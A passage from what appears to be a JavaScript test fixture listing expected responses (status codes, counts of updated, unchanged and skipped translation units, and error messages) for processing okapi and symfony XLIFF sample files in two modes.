  "okapi/xliff12/Balancing/BetweenSegments.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{source_language:1}},
    tr: {status:200,counts:{skipped:1},reasons:{source_language:1}},
  },
  "okapi/xliff12/Balancing/DifferentCTypes.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{source_language:1}},
    tr: {status:200,counts:{skipped:1},reasons:{source_language:1}},
  },
  "okapi/xliff12/Balancing/DifferentCTypesWithBreakingMrk.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{source_language:1}},
    tr: {status:200,counts:{skipped:1},reasons:{source_language:1}},
  },
  "okapi/xliff12/Balancing/DifferentTags.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{source_language:1}},
    tr: {status:200,counts:{skipped:1},reasons:{source_language:1}},
  },
  "okapi/xliff12/Balancing/MultipleSegments.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{source_language:1}},
    tr: {status:200,counts:{skipped:1},reasons:{source_language:1}},
  },
  "okapi/xliff12/Balancing/WithCTypes.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{source_language:1}},
    tr: {status:200,counts:{skipped:1},reasons:{source_language:1}},
  },
  "okapi/xliff12/BinUnitTest01.xlf": {
    asIs: {status:200,counts:{skipped:3},reasons:{target_language:3}},
    tr: {status:200,counts:{unchanged:2,skipped:1},reasons:{not_translatable:1}},
  },
  "okapi/xliff12/JMP-11-Test01.xlf": {
    asIs: {status:200,counts:{skipped:9},reasons:{target_language:9}},
    tr: {status:200,counts:{update:8,skipped:1},reasons:{qa:1}},
  },
  "okapi/xliff12/MQ-12-Test01.xlf": {
    asIs: {status:200,counts:{skipped:119},reasons:{target_language:119}},
    tr: {status:200,counts:{unchanged:119},reasons:{}},
  },
  "okapi/xliff12/Manual-12-AltTrans.xlf": {
    asIs: {status:200,counts:{skipped:7},reasons:{target_language:7}},
    tr: {status:200,counts:{update:2,unchanged:4,skipped:1},reasons:{not_translatable:1}},
  },
  "okapi/xliff12/NSTest01.xlf": {
    asIs: {status:200,counts:{skipped:2},reasons:{target_language:2}},
    tr: {status:200,counts:{unchanged:1,skipped:1},reasons:{not_translatable:1}},
  },
  "okapi/xliff12/OnTramTest01.xlf": {
    asIs: {status:200,counts:{skipped:88},reasons:{source_language:88}},
    tr: {status:200,counts:{skipped:88},reasons:{source_language:88}},
  },
  "okapi/xliff12/PAS-10-Test01.xlf": {
    asIs: {status:200,counts:{unchanged:64,skipped:94},reasons:{duplicate:94}},
    tr: {status:200,counts:{unchanged:64,skipped:94},reasons:{duplicate:94}},
  },
  "okapi/xliff12/RB-11-Test01.xlf": {
    asIs: {status:200,counts:{skipped:13},reasons:{target_language:13}},
    tr: {status:200,counts:{update:1,unchanged:10,skipped:2},reasons:{not_translatable:1,qa:1}},
  },
  "okapi/xliff12/RB-12-Test02.xlf": {
    asIs: {status:200,counts:{skipped:9},reasons:{target_language:9}},
    tr: {status:200,counts:{update:2,unchanged:2,skipped:5},reasons:{qa:5}},
  },
  "okapi/xliff12/SF-12-Test01.xlf": {
    asIs: {status:200,counts:{skipped:1918},reasons:{target_language:1914,duplicate:4}},
    tr: {status:200,counts:{update:1913,skipped:5},reasons:{duplicate:4,qa:1}},
  },
  "okapi/xliff12/SF-12-Test02.xlf": {
    asIs: {status:200,counts:{skipped:98},reasons:{target_language:98}},
    tr: {status:200,counts:{update:90,unchanged:8},reasons:{}},
  },
  "okapi/xliff12/SF-12-Test03.xlf": {
    asIs: {status:200,counts:{skipped:944},reasons:{target_language:943,duplicate:1}},
    tr: {status:200,counts:{update:1,unchanged:942,skipped:1},reasons:{duplicate:1}},
  },
  "okapi/xliff12/TS09-12-Test01.xlf": {
    asIs: {status:200,counts:{skipped:42},reasons:{target_language:42}},
    tr: {status:200,counts:{update:1,unchanged:19,skipped:22},reasons:{not_translatable:22}},
  },
  "okapi/xliff12/Typo3Draft.xlf": {
    asIs: {status:200,counts:{skipped:6},reasons:{target_language:6}},
    tr: {status:200,counts:{update:4,unchanged:2},reasons:{}},
  },
  "okapi/xliff12/Xslt-Test01.xlf": {
    asIs: {status:200,counts:{skipped:6},reasons:{qa:6}},
    tr: {status:200,counts:{skipped:6},reasons:{qa:6}},
  },
  "okapi/xliff12/addingElements.xlf": {
    asIs: {status:200,counts:{skipped:4},reasons:{source_language:4}},
    tr: {status:200,counts:{skipped:4},reasons:{source_language:4}},
  },
  "okapi/xliff12/altTrans-100.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{target_language:1}},
    tr: {status:200,counts:{update:1},reasons:{}},
  },
  "okapi/xliff12/alttrans.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{target_language:1}},
    tr: {status:200,counts:{unchanged:1},reasons:{}},
  },
  "okapi/xliff12/invalid_xml_entity.xlf": {
    asIs: {status:400,error:"invalid_xml_entity.xlf: Line 8, column 30: the XML is not well-formed: disallowed character."},
    tr: {status:400,error:"invalid_xml_entity.xlf: Line 8, column 30: the XML is not well-formed: disallowed character."},
  },
  "okapi/xliff12/lqiExtensions.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{target_language:1}},
    tr: {status:200,counts:{update:1},reasons:{}},
  },
  "okapi/xliff12/lqiTest.xlf": {
    asIs: {status:200,counts:{skipped:4},reasons:{target_language:4}},
    tr: {status:200,counts:{unchanged:4},reasons:{}},
  },
  "okapi/xliff12/segmented.xlf": {
    asIs: {status:200,counts:{skipped:2},reasons:{target_language:2}},
    tr: {status:200,counts:{update:2},reasons:{}},
  },
  "okapi/xliff12/test1_es.xlf": {
    asIs: {status:200,counts:{skipped:140},reasons:{target_language:116,duplicate:24}},
    tr: {status:200,counts:{update:2,unchanged:114,skipped:24},reasons:{duplicate:24}},
  },
  "okapi/xliff12/test2_es.xlf": {
    asIs: {status:200,counts:{skipped:708},reasons:{target_language:708}},
    tr: {status:200,counts:{update:12,unchanged:346,skipped:350},reasons:{not_translatable:350}},
  },
  "okapi/xliff12/website-sample12.xlf": {
    asIs: {status:200,counts:{skipped:4},reasons:{target_language:4}},
    tr: {status:200,counts:{update:2,unchanged:2},reasons:{}},
  },
  "okapi/xliff2/escaped.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{target_language:1}},
    tr: {status:200,counts:{unchanged:1},reasons:{}},
  },
  "okapi/xliff2/test01.xlf": {
    asIs: {status:200,counts:{skipped:4},reasons:{target_language:4}},
    tr: {status:200,counts:{update:1,unchanged:3},reasons:{}},
  },
  "symfony/empty.xlf": {
    asIs: {status:400,error:"The request body is empty: send the XLIFF file as the body."},
    tr: {status:400,error:"The request body is empty: send the XLIFF file as the body."},
  },
  "symfony/encoding.xlf": {
    asIs: {status:200,counts:{update:2},reasons:{}},
    tr: {status:200,counts:{update:2},reasons:{}},
  },
  "symfony/invalid-xml-resources.xlf": {
    asIs: {status:400,error:"invalid-xml-resources.xlf: Line 8, column 26: the XML is not well-formed: unexpected close tag."},
    tr: {status:400,error:"invalid-xml-resources.xlf: Line 8, column 26: the XML is not well-formed: unexpected close tag."},
  },
  "symfony/non-valid.xlf": {
    asIs: {status:400,error:"non-valid.xlf: the file holds no translation unit that can be read (line 5: A <trans-unit> has no id, so it cannot be matched; it is skipped.)."},
    tr: {status:400,error:"non-valid.xlf: the file holds no translation unit that can be read (line 5: A <trans-unit> has no id, so it cannot be matched; it is skipped.)."},
  },
  "symfony/resname.xlf": {
    asIs: {status:200,counts:{update:3,unchanged:1},reasons:{}},
    tr: {status:200,counts:{update:3,unchanged:1},reasons:{}},
  },
  "symfony/resources-2.0+intl-icu.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{source_language:1}},
    tr: {status:200,counts:{skipped:1},reasons:{source_language:1}},
  },
  "symfony/resources-2.0-clean.xlf": {
    asIs: {status:200,counts:{skipped:4},reasons:{source_language:4}},
    tr: {status:200,counts:{skipped:4},reasons:{source_language:4}},
  },
  "symfony/resources-2.0-multi-segment-unit.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{target_language:1}},
    tr: {status:200,counts:{update:1},reasons:{}},
  },
  "symfony/resources-2.0-name.xlf": {
    asIs: {status:400,error:"resources-2.0-name.xlf: Line 7: the file has targets but the <xliff> element has no trgLang, so their language is unknown."},
    tr: {status:400,error:"resources-2.0-name.xlf: Line 7: the file has targets but the <xliff> element has no trgLang, so their language is unknown."},
  },
  "symfony/resources-2.0.xlf": {
    asIs: {status:200,counts:{skipped:3},reasons:{target_language:3}},
    tr: {status:200,counts:{update:3},reasons:{}},
  },
  "symfony/resources-clean.xlf": {
    asIs: {status:200,counts:{skipped:3},reasons:{source_language:3}},
    tr: {status:200,counts:{skipped:3},reasons:{source_language:3}},
  },
  "symfony/resources-clean.xliff": {
    asIs: {status:200,counts:{skipped:3},reasons:{source_language:3}},
    tr: {status:200,counts:{skipped:3},reasons:{source_language:3}},
  },
  "symfony/resources-multi-files.xlf": {
    asIs: {status:200,counts:{update:2,unchanged:2},reasons:{}},
    tr: {status:200,counts:{update:2,unchanged:2},reasons:{}},
  },
  "symfony/resources-notes-meta.xlf": {
    asIs: {status:200,counts:{skipped:2},reasons:{source_language:2}},
    tr: {status:200,counts:{skipped:2},reasons:{source_language:2}},
  },
  "symfony/resources-target-attributes.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{source_language:1}},
    tr: {status:200,counts:{skipped:1},reasons:{source_language:1}},
  },
  "symfony/resources-tool-info.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{target_language:1}},
    tr: {status:200,counts:{update:1},reasons:{}},
  },
  "symfony/resources.xlf": {
    asIs: {status:200,counts:{update:3,unchanged:2},reasons:{}},
    tr: {status:200,counts:{update:3,unchanged:2},reasons:{}},
  },
  "symfony/with-attributes.xlf": {
    asIs: {status:200,counts:{update:2,unchanged:1},reasons:{}},
    tr: {status:200,counts:{update:2,unchanged:1},reasons:{}},
  },
  "symfony/withdoctype.xlf": {
    asIs: {status:200,counts:{update:1},reasons:{}},
    tr: {status:200,counts:{update:1},reasons:{}},
  },
  "symfony/withnote.xlf": {
    asIs: {status:200,counts:{update:1,unchanged:2},reasons:{}},
    tr: {status:200,counts:{update:1,unchanged:2},reasons:{}},
  },
};
